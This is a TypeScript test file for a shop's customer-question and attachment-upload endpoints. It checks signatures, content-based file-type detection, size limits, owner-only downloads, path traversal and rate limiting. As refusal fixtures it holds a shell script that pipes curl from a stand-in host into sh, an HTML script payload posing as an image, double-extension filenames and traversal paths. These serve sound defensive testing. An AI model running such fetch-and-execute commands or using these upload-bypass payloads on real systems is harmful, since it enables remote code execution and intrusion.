// Questions from the account (decision 083): the upload scope (signature, login, files
// checked by content, size limit, nothing stored on refusal), the owner-only download, submitSuggestion
// with the caller's own order and attachments, the history with answers, the "answered" hook and the
// per-customer rate limit. Runs on PGlite, and on PostgreSQL when TEST_DATABASE_URL is set.
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import { query } from "#server/db/client.ts";
import { createTestApp, get, post, signed, type TestApp } from "#server/test/app.ts";
import { testDbKinds } from "#server/test/databases.ts";
import { translate } from "#core/i18n/messages.ts";
import { ATTACHMENT_MAX_BYTES } from "#core/questions.ts";
import { QUESTIONS_PER_HOUR } from "./questions.service.ts";
import type { QuestionAnswer } from "#core/contracts/questions.ts";

const UPLOAD = "/common/attachment/upload";
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);
const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl http://evil.example | sh\n");

type Part = { name: string; value: string } | { name: string; filename: string; bytes: Buffer; type?: string };
function multipart(parts: Part[]) {
  const boundary = `----comptoir${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    if ("value" in p) chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`));
    else {
      chunks.push(
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\nContent-Type: ${p.type ?? "application/octet-stream"}\r\n\r\n`,
        ),
        p.bytes,
        Buffer.from("\r\n"),
      );
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

describe.each(testDbKinds())("questions and attachments on %s", (kind) => {
  let t: TestApp;
  let dir: string;
  let demo: string;
  let martin: string;
  let demoOrder: number;
  let martinOrder: number;

  const files = async (): Promise<string[]> => {
    const root = join(dir, "attachments");
    const out: string[] = [];
    for (const sub of await readdir(root).catch(() => [] as string[])) out.push(...(await readdir(join(root, sub))));
    return out;
  };
  const rows = async () => (await query<{ n: number }>(t.database.db, sql`select count(*)::int as n from attachments`))[0].n;
  const questionCount = async () => (await query<{ n: number }>(t.database.db, sql`select count(*)::int as n from questions`))[0].n;

  function upload(
    file: { filename: string; bytes: Buffer; type?: string } | null,
    o: { token?: string; lang?: string; sign?: boolean } = {},
  ) {
    const sig = signed(UPLOAD);
    const parts: Part[] =
      o.sign === false
        ? []
        : [
            { name: "t", value: String(sig.t) },
            { name: "at", value: sig.at },
          ];
    if (file) parts.push({ name: "file", ...file });
    const { payload, contentType } = multipart(parts);
    return t.app.inject({
      method: "POST",
      url: UPLOAD,
      payload,
      headers: {
        "content-type": contentType,
        ...(o.token ? { authorization: `Bearer ${o.token}` } : {}),
        ...(o.lang ? { applang: o.lang } : {}),
      },
    });
  }

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "comptoir-questions-"));
    t = await createTestApp(kind, { DATA_DIR: dir });
    demo = await t.app.services.sessions.create(t.app.services.db, 1);
    martin = await t.app.services.sessions.create(t.app.services.db, 2);
    [{ id: demoOrder }] = await query<{ id: number }>(t.database.db, sql`select id from orders where customer_id = 1 order by id limit 1`);
    [{ id: martinOrder }] = await query<{ id: number }>(
      t.database.db,
      sql`select id from orders where customer_id = 2 order by id limit 1`,
    );
  });
  afterAll(async () => {
    await t.close();
    await rm(dir, { recursive: true, force: true });
  });

  it("needs a signature (multipart too) and a session; nothing is stored", async () => {
    const unsigned = await upload({ filename: "photo.png", bytes: PNG }, { token: demo, sign: false });
    expect(unsigned.statusCode).toBe(403);
    expect(unsigned.json().code).toBe(403);
    const anonymous = await upload({ filename: "photo.png", bytes: PNG });
    expect(anonymous.statusCode).toBe(401);
    const { payload, contentType } = multipart([
      { name: "t", value: String(Math.floor(Date.now() / 1000)) },
      { name: "at", value: "0".repeat(32) },
      { name: "file", filename: "photo.png", bytes: PNG },
    ]);
    const forged = await t.app.inject({
      method: "POST",
      url: UPLOAD,
      payload,
      headers: { "content-type": contentType, authorization: `Bearer ${demo}` },
    });
    expect(forged.statusCode).toBe(403);
    expect(await files()).toEqual([]);
    expect(await rows()).toBe(0);
    expect((await post(t.app, "/site/Customer/submitSuggestion", { type: "suggestion", content: "Bonjour" })).statusCode).toBe(401);
    expect((await get(t.app, "/site/Customer/questionList")).statusCode).toBe(401);
  });

  const refusals: [string, { filename: string; bytes: Buffer; type?: string } | null, number, string][] = [
    [
      "a file over 5 MB",
      { filename: "grand.png", bytes: Buffer.concat([PNG, Buffer.alloc(ATTACHMENT_MAX_BYTES)]) },
      413,
      "questions.attachment_too_large",
    ],
    [
      "a file just over 5 MB",
      { filename: "grand.png", bytes: Buffer.concat([PNG, Buffer.alloc(ATTACHMENT_MAX_BYTES - PNG.length + 1)]) },
      413,
      "questions.attachment_too_large",
    ],
    ["a text file", { filename: "notes.txt", bytes: Buffer.from("bonjour"), type: "text/plain" }, 400, "questions.attachment_bad_type"],
    ["a script renamed .pdf", { filename: "facture.pdf", bytes: SCRIPT, type: "application/pdf" }, 400, "questions.attachment_bad_type"],
    [
      "HTML declared as an image",
      { filename: "photo.png", bytes: Buffer.from("<html><script>alert(1)</script>"), type: "image/png" },
      400,
      "questions.attachment_bad_type",
    ],
    ["a PDF named x.php.pdf", { filename: "x.php.pdf", bytes: PDF, type: "application/pdf" }, 400, "questions.attachment_bad_name"],
    ["a PDF named x.pdf.exe", { filename: "x.pdf.exe", bytes: PDF }, 400, "questions.attachment_bad_name"],
    ["a PNG named .pdf", { filename: "photo.pdf", bytes: PNG }, 400, "questions.attachment_bad_name"],
    ["an empty file", { filename: "vide.pdf", bytes: Buffer.alloc(0) }, 400, "questions.attachment_empty"],
    ["no file", null, 400, "questions.attachment_missing"],
  ];
  it.each(refusals)("refuses %s with a translated message and stores nothing", async (_name, file, status, key) => {
    for (const lang of ["fr", "zh"]) {
      const res = await upload(file, { token: demo, lang });
      expect(res.statusCode).toBe(status);
      expect(res.json()).toEqual({ code: status, data: null, info: translate(lang as "fr" | "zh", key) });
    }
    expect(translate("fr", key)).toMatch(/^Échec du téléchargement de la pièce jointe|^Échec/);
    expect(await files()).toEqual([]);
    expect(await rows()).toBe(0);
  });

  it("refuses a body that is not multipart", async () => {
    const res = await post(t.app, UPLOAD, { file: "x" }, { token: demo });
    expect(res.statusCode).toBe(415);
    expect(await files()).toEqual([]);
  });

  let demoFile: string;
  it("keeps an image and a PDF for their uploader, under a random name, downloadable by the owner only", async () => {
    const png = await upload({ filename: "../../Colis abîmé <1>.PNG", bytes: PNG, type: "text/html" }, { token: demo });
    expect(png.statusCode).toBe(200);
    const data = png.json().data;
    expect(data).toMatchObject({ name: "Colis abîmé _1.png", content_type: "image/png", size: PNG.length });
    expect(data.id).toMatch(/^[A-Za-z0-9_-]{22}$/);
    demoFile = data.id;
    const stored = await files();
    expect(stored).toHaveLength(1);
    expect(stored[0]).toMatch(/^[a-f0-9]{32}$/); // the client's name never reaches the disk

    const own = await t.app.inject({ url: `/common/attachment/${demoFile}`, headers: { cookie: `uid=${demo}` } });
    expect(own.statusCode).toBe(200);
    expect(own.headers["content-type"]).toBe("image/png");
    expect(own.headers["content-disposition"]).toMatch(
      /^attachment; filename="Colis ab_m_ _1.png"; filename\*=UTF-8''Colis%20ab%C3%AEm%C3%A9%20_1.png$/,
    );
    expect(own.headers["x-content-type-options"]).toBe("nosniff");
    expect(own.rawPayload.equals(PNG)).toBe(true);
    const other = await t.app.inject({ url: `/common/attachment/${demoFile}`, headers: { authorization: `Bearer ${martin}` } });
    expect(other.statusCode).toBe(404);
    expect((await t.app.inject({ url: `/common/attachment/${demoFile}` })).statusCode).toBe(401);
    expect((await t.app.inject({ url: `/common/attachment/..%2F..%2Fetc`, headers: { cookie: `uid=${demo}` } })).statusCode).toBe(404);

    const pdf = await upload({ filename: "bon de livraison.pdf", bytes: PDF }, { token: demo });
    expect(pdf.json().data).toMatchObject({ name: "bon de livraison.pdf", content_type: "application/pdf" });
    expect(await files()).toHaveLength(2);
  });

  it("needs a type and a content, and an order for a question about an order", async () => {
    const path = "/site/Customer/submitSuggestion";
    const before = await questionCount();
    const cases: [Record<string, unknown>, string][] = [
      [{ content: "Bonjour", order_id: demoOrder }, "validation.question_type_required"],
      [{ type: "inconnu", content: "Bonjour", order_id: demoOrder }, "validation.question_type_required"],
      [{ type: "livraison", order_id: demoOrder }, "validation.feedback_content_required"],
      [{ type: "livraison", content: "   ", order_id: demoOrder }, "validation.feedback_content_required"],
      [{ type: "livraison", content: "x".repeat(2001), order_id: demoOrder }, "validation.feedback_content_too_long"],
      [{ type: "livraison", content: "Bonjour" }, "validation.order_required"],
      [{ type: "livraison", content: "Bonjour", order_id: "" }, "validation.order_required"],
      [{ type: "suggestion", content: "Bonjour", attachments: ["a"] }, "questions.attachment_not_found"],
      [
        { type: "suggestion", content: "Bonjour", attachments: ["A", "B", "C", "D"].map((c) => c.repeat(22)) },
        "questions.too_many_attachments",
      ],
    ];
    for (const [body, key] of cases) {
      const res = await post(t.app, path, body, { token: demo });
      expect(res.statusCode, JSON.stringify(body)).toBe(400);
      expect(res.json().info).toBe(translate("fr", key));
    }
    expect(translate("fr", "validation.order_required")).toBe("Veuillez sélectionner une commande");
    expect(await questionCount()).toBe(before);
  });

  it("refuses another customer's order and attachment: not found, nothing sent, the attachment stays free", async () => {
    const path = "/site/Customer/submitSuggestion";
    const before = await questionCount();
    const theirOrder = await post(t.app, path, { type: "livraison", content: "À moi ?", order_id: martinOrder }, { token: demo });
    expect(theirOrder.statusCode).toBe(404);
    expect(theirOrder.json().info).toBe(translate("fr", "questions.order_not_found"));
    const theirFile = await post(
      t.app,
      path,
      { type: "livraison", content: "À moi ?", order_id: martinOrder, attachments: [demoFile] },
      { token: martin },
    );
    expect(theirFile.statusCode).toBe(404);
    expect(theirFile.json().info).toBe(translate("fr", "questions.attachment_not_found"));
    const unknown = await post(t.app, path, { type: "suggestion", content: "?", attachments: ["A".repeat(22)] }, { token: demo });
    expect(unknown.statusCode).toBe(404);
    expect(await questionCount()).toBe(before);
    const [row] = await query<{ question_id: number | null }>(
      t.database.db,
      sql`select question_id from attachments where id = ${demoFile}`,
    );
    expect(row.question_id).toBeNull();
  });

  it("sends a question about an order with its attachments, shown in the history with the shop's answer", async () => {
    const path = "/site/Customer/submitSuggestion";
    const sent = await post(
      t.app,
      path,
      { type: "livraison", content: "Carton écrasé\nPhoto jointe.", order_id: demoOrder, attachments: [demoFile] },
      { token: demo, lang: "zh" },
    );
    expect(sent.statusCode).toBe(200);
    expect(sent.json().info).toBe(translate("zh", "questions.sent"));
    const id = sent.json().data.id as number;
    // an attachment goes with one question only
    const again = await post(t.app, path, { type: "suggestion", content: "Encore", attachments: [demoFile] }, { token: demo });
    expect(again.statusCode).toBe(404);
    const suggestion = await post(t.app, path, { type: "suggestion", content: "Proposez des gobelets compostables." }, { token: demo });
    expect(suggestion.statusCode).toBe(200);

    const data = (await get(t.app, "/site/Customer/questionList", {}, { token: demo })).json().data;
    expect(data).toMatchObject({ total: data.list.length, page: 1, page_size: data.list.length });
    const list = data.list as QuestionAnswer[];
    const mine = list.find((q) => q.id === id)!;
    expect(mine).toMatchObject({ type: "livraison", type_label: "Livraison", content: "Carton écrasé\nPhoto jointe.", answer: null });
    expect(mine.order?.id).toBe(demoOrder);
    expect(mine.attachments.map((a) => a.id)).toEqual([demoFile]);
    expect(list[0].type).toBe("suggestion"); // newest first
    const seeded = list.find((q) => q.answer);
    expect(seeded?.answer).toMatch(/avoir/);
    expect(seeded?.answered_at).toMatch(/^\d{4}-\d\d-\d\dT/);
    // another customer sees none of them
    const theirs = (await get(t.app, "/site/Customer/questionList", {}, { token: martin })).json().data.list as QuestionAnswer[];
    expect(theirs.some((q) => q.id === id || q.content.includes("écrasé"))).toBe(false);
  });

  it("runs the 'answered' listeners in the answer's transaction; a question is answered once", async () => {
    const [q] = await query<{ id: number }>(
      t.database.db,
      sql`select id from questions where customer_id = 1 and answer is null order by id limit 1`,
    );
    const seen: unknown[] = [];
    const off = t.app.services.questions.onAnswered(async (tx, e) => {
      seen.push(e);
      await query(tx, sql`select 1`);
    });
    const event = await t.app.services.questions.answer(t.app.services.db, q.id, "Nous remplaçons le carton.");
    expect(seen).toEqual([event]);
    expect(event).toMatchObject({ questionId: q.id, customerId: 1 });
    // the shop's wiring (server/services.ts): the customer gets an "answer received" notice with it
    const notices = await query<{ kind: string; ref: string }>(
      t.database.db,
      sql`select kind, ref from notifications where customer_id = 1 and kind = 'answer_received' and ref = ${`#${q.id}`}`,
    );
    expect(notices).toEqual([{ kind: "answer_received", ref: `#${q.id}` }]);
    await expect(t.app.services.questions.answer(t.app.services.db, q.id, "Deux fois")).rejects.toMatchObject({
      key: "questions.already_answered",
    });
    // a failing listener rolls the answer back
    const [other] = await query<{ id: number }>(
      t.database.db,
      sql`select id from questions where customer_id = 1 and answer is null order by id limit 1`,
    );
    const off2 = t.app.services.questions.onAnswered(async () => {
      throw new Error("notification failed");
    });
    await expect(t.app.services.questions.answer(t.app.services.db, other.id, "Réponse")).rejects.toThrow("notification failed");
    const [still] = await query<{ answer: string | null }>(t.database.db, sql`select answer from questions where id = ${other.id}`);
    expect(still.answer).toBeNull();
    expect(await query(t.database.db, sql`select id from notifications where ref = ${`#${other.id}`}`)).toEqual([]);
    off();
    off2();
  });

  it("limits questions per customer and hour", async () => {
    const path = "/site/Customer/submitSuggestion";
    // Martin has made one attempt already (another customer's attachment): refusals count too
    const codes: number[] = [];
    for (let i = 0; i < QUESTIONS_PER_HOUR; i++)
      codes.push((await post(t.app, path, { type: "suggestion", content: `Idée ${i}` }, { token: martin })).statusCode);
    expect(codes).toEqual([...Array<number>(QUESTIONS_PER_HOUR - 1).fill(200), 429]);
    const limited = await post(t.app, path, { type: "suggestion", content: "Encore une" }, { token: martin });
    expect(limited.json().info).toBe(translate("fr", "questions.too_many_questions"));
    // the other customer is not affected
    expect((await post(t.app, path, { type: "suggestion", content: "Merci" }, { token: demo })).statusCode).toBe(200);
  });
});
